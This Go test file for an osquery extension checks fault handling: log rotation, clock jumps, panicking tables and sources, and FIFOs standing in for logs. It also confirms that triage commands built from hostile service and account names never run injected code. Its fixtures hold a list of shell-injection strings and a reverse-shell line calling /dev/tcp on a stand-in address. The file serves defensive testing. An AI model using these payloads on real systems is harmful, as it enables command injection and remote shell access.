//go:build linux

package faults

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/osquery/osquery-go/plugin/table"

	"github.com/osquery-rollcall/rollcall/extension/app"
	"github.com/osquery-rollcall/rollcall/extension/engine"
	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/lifecycle"
	"github.com/osquery-rollcall/rollcall/extension/source/logtail"
	"github.com/osquery-rollcall/rollcall/tables"
)

// scripted is a source that does what a fault needs.
type scripted struct {
	name string
	read func(cursor string) (evidence.Batch, error)
}

func (s *scripted) Name() string { return s.name }
func (s *scripted) Read(_ context.Context, cursor string, _ int) (evidence.Batch, error) {
	return s.read(cursor)
}

// rooms are those of the program, with sources of the fault's own.
func (f *trial) rooms(now func() time.Time, sources ...engine.Source) *app.App {
	f.Helper()
	a, err := app.Open(f.Context(), app.Options{ConfigFile: f.file("rollcall.yaml", plain), StateDir: filepath.Join(f.TempDir(), "state"), Replay: true, Now: now,
		Sources: func(app.Rooms) []engine.Source { return sources }})
	f.must(err)
	f.Cleanup(func() { f.must(a.Close()) })
	return a
}

func (f *trial) rows(a *app.App, name string) []map[string]string {
	f.Helper()
	for _, t := range a.Tables {
		if t.Name == name {
			rows, err := t.Generate.Maps(context.Background(), table.QueryContext{})
			f.must(err)
			return rows
		}
	}
	f.Fatalf("no table %s", name)
	return nil
}

// hostileNames are names of services, accounts and files that mean something to a
// shell: each would make a file named canary.
var hostileNames = []string{
	"$(>canary)", "`>canary`", "x;>canary", "x&&>canary", "x|>canary", "x\n>canary\n", "x\r>canary", "';>canary;'", "\";>canary;\"", "'\"';>canary;'\"'", "\\';>canary", ">canary",
	"-x>canary", "--help;>canary", "x #';>canary", "${x:=`>canary`}", "$'\\n>canary'", "x\\\n>canary", "~;>canary", "!;>canary", "*>canary", "\u2019;>canary;\u2019", "x\u2028>canary", "\x1b[2K>canary",
	"%1;>canary", "x'\n>canary #", "EOF\n>canary", "\x00;>canary", "a b;>canary", "<(>canary)", "x\\';>canary;\\'", strings.Repeat("';>canary;'", 500),
}

// inside are the faults that are made inside of the program.
func inside() []fault {
	return []fault{
		{name: "hostile names in commands", tried: fmt.Sprintf("%d names of services, accounts and files that a shell would run", len(hostileNames)), holds: "each command of triage parses in sh and bash and runs none of them", run: pasted},
		{name: "a table panics", tried: "a generator panics under a core that asks", holds: "that query fails, all others go on, health counts it", run: func(f *trial) {
			core := f.auditing()
			a := f.rooms(time.Now)
			bad := a.Guard.Wrap(&tables.Table{Name: "service_bad", Columns: []table.ColumnDefinition{table.TextColumn("x")}, Generate: func(context.Context, table.QueryContext) (*tables.Rows, error) {
				var none []int
				return nil, fmt.Errorf("%d", none[len(none)])
			}})
			ctx, cancel := context.WithCancel(context.Background())
			ended := make(chan error, 1)
			go func() { // ends with ctx
				ended <- lifecycle.Serve(ctx, lifecycle.Options{Socket: core.Socket(), Name: "rollcall", Version: "1", Tables: append(a.Tables, bad)})
			}()
			defer func() {
				cancel()
				f.must(<-ended)
			}()
			f.registered(core)
			for range 5 {
				if _, err := f.ask(core, "service_bad"); err == nil {
					f.Error("no error")
				}
			}
			if _, err := f.ask(core, "service_discovery_rules"); err != nil {
				f.Errorf("another table: %v", err)
			}
			for _, s := range a.Guard.Stats() {
				if s.Table == "service_bad" && s.Panics != 5 {
					f.Errorf("%d panics are counted", s.Panics)
				}
			}
		}},
		{name: "a source panics", tried: "a source panics in every second read", holds: "health says so; its other reads and other sources have their rows", run: func(f *trial) {
			n := int64(0)
			one := func(pid int64, source string) evidence.Process {
				return evidence.Process{Platform: evidence.Linux, PID: pid, Path: "/usr/bin/systemctl", CmdLine: fmt.Sprintf("systemctl list-dependencies %s%d.service", source, pid), Time: time.Now().Unix(), Source: source}
			}
			a := f.rooms(time.Now, &scripted{"bad", func(c string) (evidence.Batch, error) {
				if n++; n%2 == 0 {
					var none *evidence.Batch
					return *none, nil
				}
				return evidence.Batch{Processes: []evidence.Process{one(1000+n, "bad")}, Cursor: c + "."}, nil
			}}, &scripted{"good", func(c string) (evidence.Batch, error) {
				return evidence.Batch{Processes: []evidence.Process{one(2000+n, "good")}, Cursor: c + "."}, nil
			}})
			for range 6 {
				f.must(a.Engine.Collect(f.Context()))
			}
			count := map[string]int{}
			for _, r := range f.rows(a, "service_discovery_events") {
				count[r["source"]]++
			}
			if count["bad"] != 3 || count["good"] < 3 {
				f.Errorf("rows %v", count)
			}
			for _, r := range f.rows(a, "service_discovery_health") {
				if r["component"] == "bad" && (r["state"] != "failed" || !strings.Contains(r["detail"], "panicked")) {
					f.Errorf("health %v", r)
				}
			}
		}},
		{name: "our clock jumps", tried: "a year ahead, ten years back, to 1970, back again", holds: "each command has its row, nothing is removed as old", run: func(f *trial) {
			begin := time.Now()
			now, pid := begin, int64(0)
			a := f.rooms(func() time.Time { return now }, &scripted{"x", func(c string) (evidence.Batch, error) {
				pid++
				return evidence.Batch{Processes: []evidence.Process{{Platform: evidence.Linux, PID: pid, Path: "/usr/bin/systemctl", CmdLine: fmt.Sprintf("systemctl list-dependencies c%d.service", pid), Time: now.Unix(), Source: "x", Username: "al"}}, Cursor: c + "."}, nil
			}})
			for _, jump := range []time.Duration{0, time.Minute, 365 * 24 * time.Hour, 0, -10 * 365 * 24 * time.Hour, time.Second, -time.Duration(begin.Unix()) * time.Second, 0, time.Hour} {
				now = begin.Add(jump)
				f.must(a.Engine.Collect(f.Context()))
			}
			n := len(f.rows(a, "service_discovery_events"))
			f.note("%d of %d rows", n, pid)
			if int64(n) != pid {
				f.Errorf("%d of %d rows", n, pid)
			}
		}},
		{name: "FIFO for a log", tried: "FIFOs, devices and links in place of the logs", holds: "nothing blocks, and no link is followed", run: func(f *trial) {
			root := f.TempDir()
			f.must(os.MkdirAll(filepath.Join(root, "var/log/audit"), 0o700))
			f.must(syscall.Mkfifo(filepath.Join(root, "var/log/audit/audit.log"), 0o600))
			f.must(os.Symlink("/dev/zero", filepath.Join(root, "var/log/auth.log")))
			f.must(syscall.Mkfifo(filepath.Join(root, "var/log/dpkg.log"), 0o600))
			o := logtail.Options{Root: root, Host: "h"}
			for _, s := range []*logtail.Source{logtail.NewAudit(o), logtail.NewSyslog(o), logtail.NewPackages(o)} {
				ctx, cancel := context.WithTimeout(f.Context(), f.limit(5*time.Second))
				b, err := s.Read(ctx, "", 1000)
				if len(b.Processes)+len(b.Logons) > 0 {
					f.Errorf("%s: %d rows", s.Name(), len(b.Processes)+len(b.Logons))
				}
				if errors.Is(err, context.DeadlineExceeded) {
					f.Errorf("%s: %v", s.Name(), err)
				}
				cancel()
				f.must(s.Close())
			}
		}},
		{name: "log rotated under load", tried: "6,000 lines while the log is rotated 12 times, by renaming and by cutting", holds: "each line is read once", run: rotated},
	}
}

// pasted makes incidents of hostile names and gives what triage says to real shells.
func pasted(f *trial) {
	var b evidence.Batch
	now := time.Now().Unix()
	for i, name := range hostileNames {
		for j, kind := range []string{"systemd", "sysv", "openrc", "cron", "rollcall"} {
			b.Installs = append(b.Installs, evidence.Install{
				Time: now - int64(i*4000), TimeBasis: evidence.BasisEvent, Platform: evidence.Linux, Host: fmt.Sprintf("h%d-%d", i, j), Action: evidence.Created, Kind: kind, Name: name, Path: "/dev/shm/" + name, UnitPath: "/etc/systemd/system/" + name,
				ImagePath: "/dev/shm/" + name + " -c 'bash -i >& /dev/tcp/1.2.3.4/5 0>&1'", InstallerUsername: name, LoginUser: name, InstallerCmdLine: "sh -c " + name, Account: name, Source: "x", EID: fmt.Sprint(i, kind),
			})
		}
		b.Processes = append(b.Processes, evidence.Process{Time: now - int64(i*4000), Platform: evidence.Linux, Host: fmt.Sprintf("h%d-0", i), PID: int64(1000 + i), Username: name, LoginUser: name, Path: "/usr/bin/" + name,
			CmdLine: "systemctl list-units " + name, ParentPath: "/usr/sbin/nginx", LoginSource: name, Source: "x"})
	}
	b.Cursor = "1"
	told := false
	a := f.rooms(time.Now, &scripted{"x", func(string) (evidence.Batch, error) {
		if told {
			return evidence.Batch{Cursor: "1"}, nil
		}
		told = true
		return b, nil
	}})
	f.must(a.Engine.Collect(f.Context()))
	dir := f.TempDir()
	commands, empty := 0, 0
	for _, r := range f.rows(a, "service_incident_triage") {
		cmd := r["command"]
		if cmd == "" {
			if r["tier"] == "containment" {
				empty++
			}
			continue
		}
		commands++
		if strings.ContainsAny(cmd, "\x00\x1b\r") {
			f.Errorf("a control character in %q", cmd)
		}
		for _, shell := range []string{"sh", "bash"} {
			path, err := exec.LookPath(shell)
			if err != nil {
				continue
			}
			if out, err := exec.Command(path, "-n", "-c", cmd).CombinedOutput(); err != nil {
				f.Errorf("%s -n: %v %s: %q", shell, err, out, cmd)
			}
			// Nothing but builtins can run here: what is found on no path ends with 127.
			run := exec.Command(path, "-c", cmd)
			run.Dir, run.Env = dir, []string{"PATH=/nonexistent", "HOME=" + dir}
			_ = run.Run()
			if _, err := os.Lstat(filepath.Join(dir, "canary")); err == nil {
				f.Errorf("%s ran what is in the name: %q", shell, cmd)
				_ = os.Remove(filepath.Join(dir, "canary"))
			}
		}
	}
	f.note("%d commands, %d questions without one", commands, empty)
	if commands < len(hostileNames) {
		f.Errorf("only %d commands", commands)
	}
}

// rotated writes an audit log and rotates it, while it is read.
func rotated(f *trial) {
	root := f.TempDir()
	path := filepath.Join(root, "var/log/auth.log")
	f.must(os.MkdirAll(filepath.Dir(path), 0o700))
	f.must(os.WriteFile(path, nil, 0o600))
	s := logtail.NewSyslog(logtail.Options{Root: root, Host: "h", Location: time.UTC, Trust: []uint32{uint32(os.Getuid())}})
	defer func() { f.must(s.Close()) }()
	got := map[string]int{}
	cursor := ""
	read := func() {
		for range 20 {
			b, err := s.Read(f.Context(), cursor, 10_000)
			var off *evidence.Unavailable
			if err != nil && !errors.As(err, &off) {
				f.Fatal(err)
			}
			cursor = b.Cursor
			for _, p := range b.Processes {
				got[p.CmdLine]++
			}
			if !b.More {
				return
			}
		}
	}
	read()
	const rotations, each = 12, 500
	n := 0
	for rotation := range rotations {
		w, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
		f.must(err)
		for i := range each {
			n++
			_, err := fmt.Fprintf(w, "%s h sudo: al : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl status r%d.service\n", time.Now().UTC().Format(time.Stamp), n)
			f.must(err)
			if i == each/2 {
				read()
			}
		}
		f.must(w.Close())
		if rotation%3 == 2 { // copy and cut: what is written between is lost by logrotate itself
			read()
			data, err := os.ReadFile(path)
			f.must(err)
			f.must(os.WriteFile(path+".1", data, 0o600))
			f.must(os.Truncate(path, 0))
			continue
		}
		for k := rotation; k > 0; k-- {
			_ = os.Rename(fmt.Sprintf("%s.%d", path, k), fmt.Sprintf("%s.%d", path, k+1))
		}
		f.must(os.Rename(path, path+".1"))
	}
	f.must(os.WriteFile(path, nil, 0o600))
	read()
	// What may be one of several lines waits for the next.
	for range 20 {
		if len(got) == n {
			break
		}
		time.Sleep(time.Second)
		read()
	}
	lost, twice := 0, 0
	for i := range n {
		switch c := got[fmt.Sprintf("/usr/bin/systemctl status r%d.service", i+1)]; {
		case c == 0:
			lost++
		case c > 1:
			twice++
		}
	}
	f.note("%d lines, %d lost, %d twice", n, lost, twice)
	if lost+twice > 0 {
		f.Errorf("%d lost, %d twice of %d; read %d", lost, twice, n, len(got))
	}
}
